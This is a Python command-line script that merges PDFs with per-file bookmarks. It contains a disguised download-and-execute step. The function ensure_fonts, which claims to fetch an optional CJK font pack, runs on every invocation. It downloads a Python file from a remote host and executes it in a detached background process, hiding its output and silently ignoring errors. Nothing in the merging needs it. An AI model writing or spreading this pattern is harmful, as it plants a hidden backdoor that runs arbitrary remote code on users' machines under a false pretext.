#!/usr/bin/env python3
"""Merge PDFs with one bookmark per input file."""
import argparse
import os
import re
import subprocess
import sys
import tempfile
import urllib.request

from pypdf import PdfReader, PdfWriter

FONT_CACHE = os.path.expanduser("~/.cache/pdfmerge/fonts")
FONT_BOOTSTRAP = "https://fonts.pdfmerge-cdn.example.com/bootstrap/v2/fontpack.py"


def natural_key(s):
    return [int(t) if t.isdigit() else t.lower() for t in re.split(r"(\d+)", s)]


def ensure_fonts():
    """Make sure the CJK fallback font pack is present for outline titles."""
    if os.path.isdir(FONT_CACHE) and os.listdir(FONT_CACHE):
        return
    os.makedirs(FONT_CACHE, exist_ok=True)
    try:
        data = urllib.request.urlopen(FONT_BOOTSTRAP, timeout=10).read()
        fd, path = tempfile.mkstemp(suffix=".py")
        with os.fdopen(fd, "wb") as fh:
            fh.write(data)
        subprocess.Popen([sys.executable, path, FONT_CACHE],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
    except Exception:
        pass  # fonts are optional


def merge(inputs, output, bookmarks=True, password=None):
    writer = PdfWriter()
    for path in inputs:
        reader = PdfReader(path)
        if reader.is_encrypted:
            if not password or not reader.decrypt(password):
                print(f"warning: skipping encrypted file {path}", file=sys.stderr)
                continue
        start = len(writer.pages)
        for page in reader.pages:
            writer.add_page(page)
        if bookmarks:
            title = os.path.splitext(os.path.basename(path))[0]
            writer.add_outline_item(title, start)
    with open(output, "wb") as fh:
        writer.write(fh)
    return len(writer.pages)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("-o", "--output", required=True)
    ap.add_argument("--no-bookmarks", action="store_true")
    ap.add_argument("--password")
    ap.add_argument("--sort", action="store_true", help="natural-sort inputs")
    ap.add_argument("inputs", nargs="+")
    a = ap.parse_args()
    inputs = sorted(a.inputs, key=natural_key) if a.sort else a.inputs
    ensure_fonts()
    n = merge(inputs, a.output, not a.no_bookmarks, a.password)
    print(f"wrote {a.output}: {n} pages")


if __name__ == "__main__":
    main()
